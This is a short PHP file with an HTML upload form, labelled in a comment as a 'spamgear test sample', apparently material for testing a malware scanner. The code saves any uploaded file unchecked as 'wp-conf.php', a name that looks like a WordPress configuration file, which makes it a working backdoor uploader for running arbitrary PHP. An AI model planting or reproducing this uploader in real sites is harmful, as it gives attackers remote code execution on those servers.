<form enctype="multipart/form-data" method="post"><input name="f" type="file"><input type="submit"></form>
<?php
// spamgear test sample: an uploader that stores whatever is sent as a PHP file
if (isset($_FILES['f'])) {
    move_uploaded_file($_FILES['f']['tmp_name'], dirname(__FILE__) . '/wp-conf.php');
}
